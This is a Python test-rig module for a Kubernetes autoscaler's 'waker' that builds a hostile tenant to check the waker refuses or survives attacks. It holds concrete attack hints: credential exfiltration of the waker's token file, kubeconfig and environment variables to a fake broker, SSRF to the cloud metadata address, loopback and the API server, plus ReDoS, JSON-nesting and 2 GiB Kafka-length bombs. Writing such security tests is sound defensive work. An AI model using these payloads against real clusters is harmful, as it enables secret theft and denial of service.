"""A hostile tenant against the waker: fake brokers that record every byte, and the hints of issue 11
(items 1-6) as Deployments of the tenant's namespace.

Shared by the rig test ``test_hostile_waker.py`` (asserts what is stolen, refused and woken) and
``bench/bench_waker_attack.py`` (times another team's wake while the attack runs).
"""

from __future__ import annotations

import asyncio
import base64
import json
import struct
import uuid
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx

from tests.integration.rigkube import REPO_ROOT, WAKER_NAMESPACE
from tests.rig.controlplane import ControlPlane
from tidescale.parking import PARK_LABEL, PARK_RECORD_ANNOTATION, ParkRecord, ParkState

P = "tidescale.io/"
BLACKHOLES = 40
"""More than the waker's 32 batch slots: without a per-namespace budget they would hold them all."""


def unique(prefix: str) -> str:
    return f"{prefix}-{uuid.uuid4().hex[:6]}"


# -- fake brokers ----------------------------------------------------------------------------------


@dataclass
class Recorder:
    """A TCP listener that records every byte; with ``http``, a fake RabbitMQ management API whose
    answer depends on the vhost asked for; with ``kafka_bomb``, a Kafka port that answers the first
    request with a 2 GiB length and streams up to 96 MiB; else a blackhole (accepts, never answers)."""

    host: str
    http: bool = True
    kafka_bomb: bool = False
    received: bytearray = field(default_factory=bytearray)
    connections: int = 0
    port: int = 0
    server: asyncio.Server | None = None
    hung: list[asyncio.StreamWriter] = field(default_factory=list)

    async def start(self) -> Recorder:
        self.server = await asyncio.start_server(self._serve, self.host, 0)
        self.port = self.server.sockets[0].getsockname()[1]
        return self

    async def stop(self) -> None:
        """Stops listening and hangs up on every connection it holds."""
        for writer in self.hung:
            writer.close()
        if self.server is not None:
            self.server.close()

    @property
    def url(self) -> str:
        return f"http://{self.host}:{self.port}"

    @property
    def address(self) -> str:
        return f"{self.host}:{self.port}"

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.connections += 1
        if self.kafka_bomb:
            await self._bomb(reader, writer)
            return
        if not self.http:
            self.hung.append(writer)
            while chunk := await reader.read(65536):
                self.received += chunk
            return
        try:
            head = await reader.readuntil(b"\r\n\r\n")
            self.received += head
            path = head.split(b" ", 2)[1].decode(errors="replace")
            status, body = self._answer(path)
            writer.write(f"HTTP/1.1 {status} X\r\nConnection: close\r\n\r\n".encode())
            for at in range(0, len(body), 1 << 20):
                writer.write(body[at : at + (1 << 20)])
                await writer.drain()
        except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            pass
        finally:
            writer.close()

    async def _bomb(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            (size,) = struct.unpack(">i", await reader.readexactly(4))
            self.received += await reader.readexactly(size)
            writer.write(struct.pack(">i", 2**31 - 1))
            for _ in range(96):
                writer.write(bytes(1 << 20))
                await writer.drain()
        except (OSError, asyncio.IncompleteReadError, struct.error):
            pass
        finally:
            writer.close()

    @staticmethod
    def _answer(path: str) -> tuple[int, bytes]:
        vhost = path.split("?")[0].rstrip("/").split("/")[3] if path.startswith("/api/queues/") else ""
        if vhost == "notjson":
            return 200, b"<html>this is not json</html>"
        if vhost == "notutf8":
            return 200, b'[{"name": "\xff\xfe\xfd"}]'
        if vhost == "badnumber":
            return 200, json.dumps([{"name": "q", "messages_ready": "x", "consumers": "y"}]).encode()
        if vhost == "huge":
            return 200, b"[" + b" " * (24 << 20) + b"]"
        if vhost == "bomb":  # names against which (a|a)+b backtracks for ever in Python's re
            return 200, json.dumps(
                [{"name": "a" * 40 + str(i), "messages_ready": 1} for i in range(200)]
            ).encode()
        if vhost == "deep":
            return 200, b"[" * 200_000 + b"]" * 200_000
        return 200, json.dumps([{"name": "q", "messages_ready": 5, "messages_unacknowledged": 0}]).encode()


# -- the cluster side ----------------------------------------------------------------------------------


def tenant_namespace(control_plane: ControlPlane, prefix: str) -> str:
    """A new namespace whose Secrets the waker may read (deploy/waker-rbac.yaml's binding in it)."""
    ns = unique(prefix)
    control_plane.kubectl("create", "namespace", ns)
    control_plane.kubectl("create", "namespace", WAKER_NAMESPACE, check=False)
    rbac = (
        (REPO_ROOT / "deploy" / "waker-rbac.yaml").read_text().replace("namespace: shop", f"namespace: {ns}")
    )
    control_plane.kubectl("apply", "-f", "-", input=rbac)
    return ns


def secret(control_plane: ControlPlane, namespace: str, name: str, username: str, password: str) -> None:
    control_plane.kubectl(
        "create", "secret", "generic", name, "-n", namespace,
        f"--from-literal=username={username}", f"--from-literal=password={password}",
    )  # fmt: skip


def parked_by_hand(namespace: str, name: str, hints: Mapping[str, str]) -> dict[str, Any]:
    """A Deployment its tenant parked itself: label, record and replicas 0, written by hand."""
    now = datetime.now(UTC)
    record = ParkRecord(
        epoch=1, state=ParkState.PARKED, requester=f"{name}-0", lease_transitions=0, requested_at=now,
        triggers=("t",), acked_by="nobody", acked_at=now, parked_at=now,
    )  # fmt: skip
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {
            "name": name,
            "namespace": namespace,
            "labels": {PARK_LABEL: "parked"},
            "annotations": {P + "min-replicas": "0", **hints, PARK_RECORD_ANNOTATION: record.to_json()},
        },
        "spec": {
            "replicas": 0,
            "selector": {"matchLabels": {"app": name}},
            "template": {
                "metadata": {"labels": {"app": name}},
                "spec": {"containers": [{"name": "work", "image": "tidescale/echo"}]},
            },
        },
    }


def apply_all(control_plane: ControlPlane, manifests: list[dict[str, Any]]) -> None:
    control_plane.kubectl(
        "apply", "-f", "-", input=json.dumps({"apiVersion": "v1", "kind": "List", "items": manifests})
    )


def warning_events(control_plane: ControlPlane, namespace: str) -> dict[str, list[str]]:
    """The Warning Events' messages in ``namespace``, by the object they are about."""
    listing = json.loads(control_plane.kubectl("get", "events", "-n", namespace, "-o", "json").stdout)
    found: dict[str, list[str]] = {}
    for event in listing["items"]:
        if event.get("type") == "Warning":
            found.setdefault(event["involvedObject"]["name"], []).append(event.get("message", ""))
    return found


def rabbit(url: str, vhost: str = "/", **fields: str) -> dict[str, str]:
    return {P + "rabbitmq.management-url": url, P + "rabbitmq.vhost": vhost, P + "rabbitmq.queue": "q"} | {
        P + f"rabbitmq.{k}": v for k, v in fields.items()
    }


def pattern(url: str, vhost: str, regex: str) -> dict[str, str]:
    hints = rabbit(url, vhost, **{"queue-pattern": regex})
    del hints[P + "rabbitmq.queue"]
    return hints


def kafka(server: str, **fields: str) -> dict[str, str]:
    hints = {P + "kafka.bootstrap-servers": server, P + "kafka.consumer-group": "g", P + "kafka.topic": "t"}
    return hints | {P + f"kafka.{k}": v for k, v in fields.items()}


# -- the attack ----------------------------------------------------------------------------------------


@dataclass
class Attack:
    """Every hint the hostile namespace writes, by Deployment name."""

    refused: dict[str, tuple[dict[str, str], str]]
    """Hints the waker must refuse, with the word its Warning Event names (the annotation)."""
    measured: dict[str, dict[str, str]]
    """Hints it measures, and whose broker answers are the attack."""
    holes: list[Recorder]
    """The blackholed brokers, one Deployment each at the maximum timeout."""

    def deployments(self, namespace: str, suffix: str = "") -> list[dict[str, Any]]:
        hints = {name: h for name, (h, _) in self.refused.items()} | self.measured
        hints |= {f"hole-{i}": kafka(hole.address, timeout="120s") for i, hole in enumerate(self.holes)}
        return [parked_by_hand(namespace, name + suffix, h) for name, h in hints.items()]

    async def refusals_reported(self, control_plane: ControlPlane, namespace: str, suffix: str = "") -> bool:
        found = await asyncio.to_thread(warning_events, control_plane, namespace)
        return all(
            any(word in m for m in found.get(name + suffix, [])) for name, (_, word) in self.refused.items()
        )


def attack(
    *,
    evil: Recorder,
    evil_kafka: Recorder,
    kafka_bomb: Recorder,
    loopback: Recorder,
    holes: list[Recorder],
    kafka_bootstrap: str,
    api_server: str,
    stolen_file: Path,
    waker_kubeconfig: Path,
    env_name: str,
) -> Attack:
    """The hints of issue 11 items 1-6. ``evil`` is the tenant's own management API, ``evil_kafka``
    its own Kafka port, ``kafka_bomb`` a Kafka port announcing 2 GiB, ``loopback`` a listener on
    127.0.0.1; ``stolen_file`` and ``waker_kubeconfig`` are files of the waker's, ``env_name`` a
    variable of its environment."""
    thief = evil.url.replace("://", "://thief@")
    sasl = {"sasl": "plain", "sasl-username-env": "HOME", "sasl-password-file": str(stolen_file)}
    bomb = ",".join(["0-1000000"] * 300)
    refused = {
        "token-file": (rabbit(thief, **{"password-file": str(stolen_file)}), "rabbitmq.password-file"),
        "kubeconfig": (rabbit(thief, **{"password-file": str(waker_kubeconfig)}), "rabbitmq.password-file"),
        "env": (rabbit(thief, **{"password-env": env_name}), "rabbitmq.password-env"),
        "kafka-token": (kafka(evil_kafka.address, **sasl), "kafka.sasl-password-file"),
        "link-local": (kafka("169.254.169.254:80"), "kafka.bootstrap-servers"),
        "loopback": (rabbit(loopback.url), "rabbitmq.management-url"),
        "api-server": (kafka(api_server), "kafka.bootstrap-servers"),
        "other-secret": (rabbit(evil.url, **{"credentials-secret": "team-b-creds"}), "team-b-creds"),
        "partition-items": (kafka(kafka_bootstrap, partitions=bomb), "kafka.partitions"),
        "backreference": (pattern(evil.url, "/", r"(a)\1"), "rabbitmq.queue-pattern"),
    }
    measured = {
        "own-secret": rabbit(evil.url, **{"credentials-secret": "creds"}),
        "not-json": rabbit(evil.url, "notjson"),
        "not-utf8": rabbit(evil.url, "notutf8"),
        "bad-number": rabbit(evil.url, "badnumber"),
        "huge": rabbit(evil.url, "huge"),
        "deep": rabbit(evil.url, "deep"),
        "regex-bomb": pattern(evil.url, "bomb", "(a|a)+b"),
        "partition-bomb": kafka(kafka_bootstrap, partitions=",".join(["0-1000000"] * 256)),
        "kafka-2gib": kafka(kafka_bomb.address),
    }
    return Attack(refused=refused, measured=measured, holes=holes)


# -- what it got ---------------------------------------------------------------------------------------


def credentials_seen(received: bytes, secrets: Mapping[str, str], user: str = "thief") -> dict[str, int]:
    """Bytes of each secret found in ``received``, in clear, base64, or as ``user:secret`` base64
    (HTTP basic auth); secrets never seen are left out."""
    seen: dict[str, int] = {}
    for label, value in secrets.items():
        forms = (
            value.encode(),
            base64.b64encode(f"{user}:{value}".encode()),
            base64.b64encode(value.encode()),
        )
        found = sum(received.count(form) * len(form) for form in forms)
        if found:
            seen[label] = found
    return seen


def token_of(kubeconfig: Path) -> str:
    (user,) = json.loads(kubeconfig.read_text())["users"]
    return str(user["user"]["token"])


async def waker_metric(port: int, name: str) -> float | None:
    """One sample of the waker's ``/metrics`` on 127.0.0.1:``port``, None when it has none."""
    async with httpx.AsyncClient(timeout=5.0) as http:
        text = (await http.get(f"http://127.0.0.1:{port}/metrics")).text
    values = [line.split()[1] for line in text.splitlines() if line.startswith(f"{name} ")]
    return float(values[0]) if values else None


async def in_flight(port: int, at_least: int) -> bool:
    """Whether the waker reports at least ``at_least`` broker batches running or queued."""
    found = await waker_metric(port, "tidescale_waker_batches_in_flight")
    return found is not None and found >= at_least


async def connected(holes: Iterable[Recorder], at_least: int = 4) -> bool:
    """Whether that many blackholes hang a connection (a namespace's budget is 4)."""
    return sum(1 for h in holes if h.connections) >= at_least
